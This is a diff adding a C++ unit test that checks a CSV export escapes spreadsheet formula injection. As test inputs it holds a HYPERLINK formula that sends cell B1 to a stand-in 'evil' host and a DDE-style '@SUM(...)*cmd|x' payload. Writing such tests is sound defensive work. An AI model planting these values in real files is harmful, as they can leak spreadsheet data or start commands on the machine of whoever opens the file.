@@ -177,6 +177,29 @@ TEST(Export, writes_customers_with_their_traits) {
         ExportOptions{.file = folder.path() / "c.xes", .of = ExportOf::Customers}));
 }
 
+/// Whoever has the write key of a page says what stands in the cells.
+TEST(Export, for_a_spreadsheet_has_nothing_that_calculates) {
+    TestFolder folder;
+    Encounter one;
+    one.id = encounter::EncounterId("1");
+    one.customer = encounter::CustomerName(R"(=HYPERLINK("http://evil/?"&B1;"x"))");
+    one.touchpoint = "@SUM(1+1)*cmd|x";
+    one.text = "plain";
+    one.value = -7.5;
+    ASSERT_TRUE(folder.ledger().append(std::vector{one}));
+    const auto written = [&](bool is_for_spreadsheet) {
+        EXPECT_TRUE(export_encounters(folder.ledger(),
+                                      ExportOptions{.file = folder.path() / "a.csv",
+                                                    .is_for_spreadsheet = is_for_spreadsheet}));
+        return folder.read("a.csv");
+    };
+    EXPECT_THAT(written(false), testing::HasSubstr(",@SUM(1+1)*cmd|x,"));
+    const std::string safe = written(true);
+    EXPECT_THAT(safe, testing::HasSubstr(R"x(1,"'=HYPERLINK(""http://evil/?""&B1;""x"")",)x"));
+    EXPECT_THAT(safe, testing::HasSubstr(",'@SUM(1+1)*cmd|x,"));
+    EXPECT_THAT(safe, testing::HasSubstr(",plain,,-7.5,"));
+}
+
 TEST(Export, of_nothing_is_a_file_without_rows) {
     TestFolder folder;
     for (const char* name : {"a.csv", "a.parquet", "a.xes", "a.jsonl"}) {
